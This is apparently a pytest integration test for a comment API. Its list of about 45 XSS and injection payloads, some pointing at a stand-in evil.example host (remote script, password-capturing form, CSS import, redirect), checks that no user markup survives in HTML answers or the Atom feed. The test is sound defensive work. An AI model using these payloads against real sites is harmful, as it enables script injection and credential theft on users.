"""Hostile text: whatever a reader sends through the API, no markup of his comes out of any answer."""

from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from defusedxml.ElementTree import fromstring

from tests.integration.comments.conftest import Service

# Written for this test: each tries another way from text into markup, an address or a script.
VECTORS = [
    "<script>alert(1)</script>",
    "</p></body><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u202escript>alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://good.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://good.example/" onmouseover="alert(1)',
    "https://good.example/' onmouseover='alert(1)",
    "https://good.example/`onmouseover=alert(1)`",
    "https://good.example/<script>alert(1)</script>",
    "https://good.example/&quot;onmouseover=alert(1)&quot;",
    "https://good.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://javascript:alert(1)@good.example/",
    'http://[::1]/"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7 * 7 %>",
    "';alert(1);//",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<x" * 300,
    "<a href=//good.example " * 40,
]


class Allowed(HTMLParser):
    """A second reader of our HTML, of another make: it takes our own tags, and notes everything else."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.strange: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        # nh3 takes the address out of a link that leads nowhere, and leaves the rest.
        is_link = tag == "a" and values.pop("rel", None) == "nofollow ugc noopener" and values.keys() <= {"href"}
        is_safe_link = is_link and urlsplit(values.get("href") or "http:").scheme.lower() in {"http", "https"}
        if not is_safe_link and (tag not in {"p", "br"} or attrs):
            self.strange.append(f"<{tag} {attrs}>")

    def handle_endtag(self, tag: str) -> None:
        if tag not in {"p", "a"}:
            self.strange.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    def handle_decl(self, decl: str) -> None:
        self.strange.append(decl)

    def handle_pi(self, data: str) -> None:
        self.strange.append(data)

    def unknown_decl(self, data: str) -> None:
        self.strange.append(data)


def strange_in(html: str) -> list[str]:
    """What of an HTML is not ours."""
    reader = Allowed()
    reader.feed(html)
    reader.close()
    return reader.strange


@pytest.fixture
def service(sqlite_service: Service) -> Service:
    sqlite_service.put("zz-1")
    return sqlite_service


@pytest.mark.parametrize("vector", VECTORS)
def test_no_markup_of_a_reader_comes_out(service: Service, vector: str) -> None:
    parent: Any = service.comment("zz-1", vector, nickname=vector[:40].replace("\t", " "))
    assert parent.status_code in {201, 202}
    service.comment("zz-1", f"前 {vector} 后", parent_id=parent.json["id"])

    read = service.get("/v1/articles/zz-1/comments")["comments"][0]
    latest = service.get("/v1/comments/latest")["comments"]
    feed = service.client.get("/v1/articles/zz-1/comments.atom")

    htmls = [parent.json["html"], read["html"], *(each["html"] for each in (*read["replies"], *latest))]
    htmls += [each.text for each in fromstring(feed.data).iter("{http://www.w3.org/2005/Atom}content")]
    assert len(htmls) == 7
    assert {html: found for html in htmls if (found := strange_in(html))} == {}
    assert "edit_token" not in read


@pytest.mark.parametrize("website", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "https://a b"])
def test_a_website_is_an_address_of_the_web(service: Service, website: str) -> None:
    answer = service.comment("zz-1", website=website)

    assert answer.status_code == 422


def test_answers_are_never_taken_for_pages(service: Service) -> None:
    service.comment("zz-1", VECTORS[0])

    answer = service.client.get("/v1/articles/zz-1/comments")

    assert (answer.content_type, answer.headers["X-Content-Type-Options"]) == ("application/json", "nosniff")
